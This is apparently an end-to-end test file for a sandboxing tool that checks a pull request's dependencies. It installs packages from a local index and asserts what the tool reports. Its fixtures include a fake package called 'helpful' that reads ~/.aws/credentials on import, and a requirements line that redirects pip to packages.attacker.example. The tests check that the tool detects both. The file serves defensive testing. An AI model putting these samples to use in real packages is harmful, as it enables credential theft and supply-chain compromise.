"""Checks of projects with dependencies: installed in a sandbox, by way of the proxy, from our own index."""

from __future__ import annotations

import contextlib
import json
import os
import tarfile
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gate.cli import main
from gate.errors import InconclusiveError
from gate.sandbox.backends.container import engine
from tests.contract.capabilities import capability
from tests.e2e.pulls import FileMap, Pull, build
from tests.package_index import PackageIndex, serving

pytestmark = [pytest.mark.backend, pytest.mark.slow]

PLUMBUM = {"plumbline/__init__.py": "def level(x: float) -> float:\n    return round(x, 2)\n"}
"""A harmless package, by a name of ours."""
THIEF = {
    "helpful/__init__.py": "import os\n\nwith open(os.path.expanduser('~/.aws/credentials')) as f:\n"
    "    LINES = len(f.read())\n"
}
BASE: FileMap = {
    "gate.toml": '[sandbox]\nsetup = "requirements"\n',
    "requirements.txt": "plumbline==1.0\n",
    "src/pricing/tax.py": '''
        """Value added tax by country."""

        from plumbline import level

        RATES = {"DE": 0.19}


        def with_tax(net: float, country: str) -> float:
            """Net plus tax."""
            return level(net * (1 + RATES.get(country, 0.0)))
        ''',
}


@pytest.fixture(params=["docker", "gvisor", "bubblewrap", "microvm"])
def backend(request: pytest.FixtureRequest) -> str:
    name = str(request.param)
    found = capability(name)
    if not found.available:
        pytest.skip(found.reason)
    if found.reserve and not os.environ.get("GATE_TEST_SLOW_BACKENDS"):
        pytest.skip(f"{found.reserve}; GATE_TEST_SLOW_BACKENDS=1 runs it")
    return name


@pytest.fixture(scope="module")
def index() -> Iterator[PackageIndex]:
    with serving() as running:
        running.add("plumbline", "1.0", PLUMBUM)
        yield running


@pytest.fixture(scope="module")
def cache() -> Iterator[Path]:
    """Where root's bubblewrap, which becomes another user, can get at it.

    Images of layers have a name of this process's own: another worker of the suite runs this file at the
    same time, and one must not remove what the other still uses.
    """
    name = f"gate-deps-{os.getpid()}"
    with tempfile.TemporaryDirectory(prefix="gate-layers-") as folder, pytest.MonkeyPatch.context() as patch:
        Path(folder).chmod(0o755)
        patch.setattr("gate.sandbox.dependencies.layer_mounts._NAME", name)
        yield Path(folder)
    _remove_images(name)


def _remove_images(name: str) -> None:
    """Every image of this name, from the engine if there is one."""
    with contextlib.suppress(InconclusiveError), contextlib.closing(engine.connect(deadline=3)) as client:
        for image in client.api.images(name):
            client.api.remove_image(image["Id"])


@pytest.fixture(autouse=True)
def _own_place(cache: Path, index: PackageIndex, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("gate.sandbox.dependencies.layer_store.cache", lambda _: cache)
    monkeypatch.delenv("GATE_SANDBOX_SETUP")
    monkeypatch.setenv("PIP_INDEX_URL", index.url)
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", "")
    index.asked.clear()


def _check(
    tmp_path: Path, backend: str, head: FileMap, *allow: str, base: FileMap | None = None
) -> dict[str, Any]:
    repo = build(
        Pull(name="p", head=head, verdicts=(), base={**BASE, **(base or {})}, message="Change prices"),
        tmp_path,
    )
    file = tmp_path / "report.json"
    words = ["check", "--repo", str(repo), "--base", "main", "--head", "head", "--json", str(file), "-q"]
    words += ["--bundle", str(tmp_path / "bundle.zip")]
    words += ["--backend", backend, *(word for place in allow for word in ("--egress-allow", place))]
    main(words)
    report: dict[str, Any] = json.loads(file.read_text())
    return report


def _stage(report: dict[str, Any], name: str) -> dict[str, Any]:
    (stage,) = [s for s in report["stages"] if s["name"] == name]
    return dict(stage)


def _told(report: dict[str, Any]) -> str:
    kept = ("verdict", "score", "reasons", "findings", "stages", "sandbox")
    text = {key: report.get(key) for key in kept}
    text["sandbox"] = {
        **report["sandbox"],
        "runs": [
            [r["target"], r["side"], r["outcome"], r["fault"], r["stderr_tail"][-800:]]
            for r in report["sandbox"]["runs"]
        ],
    }
    return json.dumps(text)[:8000]


CHANGED: FileMap = {
    "src/pricing/tax.py": '''
        """Value added tax by country."""

        from plumbline import level

        RATES = {"DE": 0.19, "AT": 0.20}


        def with_tax(net: float, country: str) -> float:
            """Net plus tax; unknown countries pay none."""
            return level(net * (1 + RATES.get(country, 0.0)))
        ''',
}


AUTOMATIC: FileMap = {
    "gate.toml": "[sandbox]\ndeadline = 30\n",
    "requirements.txt": "",
    "pyproject.toml": '[project]\nname = "pricing"\nversion = "1.0"\ndependencies = ["plumbline"]\n',
}


def test_dependencies_are_found_without_configuration(
    tmp_path: Path, backend: str, index: PackageIndex, cache: Path
) -> None:
    report = _check(tmp_path, backend, CHANGED, index.place, base=AUTOMATIC)
    assert report["verdict"] == "pass", _told(report)
    assert "1 package for base" in _stage(report, "setup")["reason"], _told(report)
    assert not [e for e in report["sandbox"]["not_exercised"] if "plumbline" in e["reason"]], _told(report)
    assert any(_is_compiled(tar) for tar in cache.glob("*.tar"))


def _is_compiled(layer: Path) -> bool:
    with tarfile.open(layer) as archive:
        return any("plumbline/__pycache__/__init__." in name for name in archive.getnames())


def test_without_an_index_a_harmless_change_is_not_stopped(
    tmp_path: Path, backend: str, index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
    report = _check(tmp_path, backend, CHANGED, "http://127.0.0.1:9", base=AUTOMATIC)
    assert report["verdict"] == "pass", _told(report)
    stage = _stage(report, "setup")
    assert (stage["outcome"], "cannot be reached" in stage["reason"]) == ("done", True), _told(report)
    assert [e for e in report["sandbox"]["not_exercised"] if "cannot be reached" in e["reason"]], _told(
        report
    )


def test_code_behind_a_dependency_is_run(tmp_path: Path, backend: str, index: PackageIndex) -> None:
    report = _check(tmp_path, backend, CHANGED, index.place)
    assert report["verdict"] == "pass", _told(report)
    assert _stage(report, "setup")["outcome"] == "done", _told(report)
    assert not [e for e in report["sandbox"]["not_exercised"] if "plumbline" in e["reason"]], _told(report)


def test_an_import_that_steals_is_told_as_the_new_dependency_s(
    tmp_path: Path, backend: str, index: PackageIndex
) -> None:
    index.add("helpful", "2.1", THIEF)
    head: FileMap = {
        "requirements.txt": "plumbline==1.0\nhelpful==2.1\n",
        "src/pricing/tax.py": str(CHANGED["src/pricing/tax.py"]).replace(
            "from plumbline", "import helpful\n        from plumbline"
        ),
    }
    report = _check(tmp_path, backend, head, index.place)
    read = [f for f in report["findings"] if f["rule_id"] == "canary-read"]
    assert read, _told(report)
    assert {f["evidence"].get("dependency") for f in read} == {"helpful 2.1"}, _told(report)
    assert {f["path"] for f in read} == {"requirements.txt"}, _told(report)
    assert report["verdict"] in ("warn", "fail"), _told(report)
    assert "new: helpful 2.1" in _stage(report, "setup")["reason"]


def test_a_harmless_new_dependency_is_no_finding_of_running(
    tmp_path: Path, backend: str, index: PackageIndex
) -> None:
    index.add("friendly", "2.1", {"friendly.py": "import json\n\nVERSION = json.loads('[2, 1]')\n"})
    report = _check(tmp_path, backend, {"requirements.txt": "plumbline==1.0\nfriendly==2.1\n"}, index.place)
    assert [r for r in report["sandbox"]["runs"] if "friendly 2.1" in r["target"]], _told(report)
    assert not [f for f in report["findings"] if f["stage"] == "behaviour"], _told(report)


def test_another_index_is_refused_and_told(tmp_path: Path, backend: str, index: PackageIndex) -> None:
    head: FileMap = {
        "requirements.txt": "--index-url https://packages.attacker.example/simple\nplumbline==1.0\n",
        **CHANGED,
    }
    report = _check(tmp_path, backend, head, index.place)
    seen = [f for f in report["findings"] if f["evidence"].get("subject") == "packages.attacker.example:443"]
    assert [f["rule_id"] for f in seen] == ["new-outbound-connection"], _told(report)
    assert seen[0]["evidence"]["phase"] == "install"
    assert report["verdict"] in ("warn", "fail"), _told(report)
    assert any("plumbline" in e["reason"] for e in report["sandbox"]["not_exercised"]), _told(report)
    again = tmp_path / "again.json"
    main(["replay", str(tmp_path / "bundle.zip"), "--json", str(again), "-q"])
    assert json.loads(again.read_text())["findings"] == report["findings"]


def test_an_index_at_a_private_address_is_the_operators_to_allow(
    tmp_path: Path, backend: str, index: PackageIndex
) -> None:
    report = _check(tmp_path, backend, CHANGED)
    assert report["verdict"] == "inconclusive", _told(report)
    assert "--egress-allow" in _stage(report, "setup")["reason"]
    assert not index.asked


def test_the_tree_may_not_allow_places(tmp_path: Path, index: PackageIndex) -> None:
    toml = f'[sandbox]\nsetup = "requirements"\negress_allow = ["{index.place}"]\n'
    repo = build(Pull(name="p", head=CHANGED, verdicts=(), base={**BASE, "gate.toml": toml}), tmp_path)
    assert main(["check", "--repo", str(repo), "--base", "main", "--head", "head", "-q"]) == 2
    assert not index.asked
